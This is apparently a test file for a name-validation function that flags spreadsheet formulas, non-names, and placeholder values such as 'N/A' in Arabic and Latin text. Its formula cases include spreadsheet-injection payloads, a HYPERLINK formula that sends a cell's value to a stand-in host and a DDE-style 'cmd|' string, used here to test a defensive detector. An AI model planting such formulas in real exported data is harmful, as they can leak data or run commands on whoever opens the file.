import { isNoName, nameFlaw } from './name-flaw.js';

describe('what stands in the place of a name', () => {
  it.each(['=HYPERLINK("http://x/"&A1)', '=1+1', '@x', '@SUM(A1)', '-1+cmd|x', '+2*A1'])(
    'is a formula: %s',
    (text) => expect(nameFlaw(text)).toBe('formula'),
  );

  it.each(['+963', '123', '١٢٣', 'م', '7a', '2-3'])('is no name: %s', (text) =>
    expect(nameFlaw(text)).toBe('not-a-name'),
  );

  it.each(['Amrun', 'مي', 'Wu', '- Amrun', "'Ali", '(عمرون)', 'م. ع.', 'Ôm'])(
    'may be a name: %s',
    (text) => expect([nameFlaw(text), isNoName(text)]).toEqual([undefined, false]),
  );

  it.each(['مجهول الهوية', 'N/A', '---', '؟؟؟', '-', '…', '', 'UNKNOWN'])(
    'says that none is known: %s',
    (text) => expect([nameFlaw(text), isNoName(text)]).toEqual([undefined, true]),
  );
});
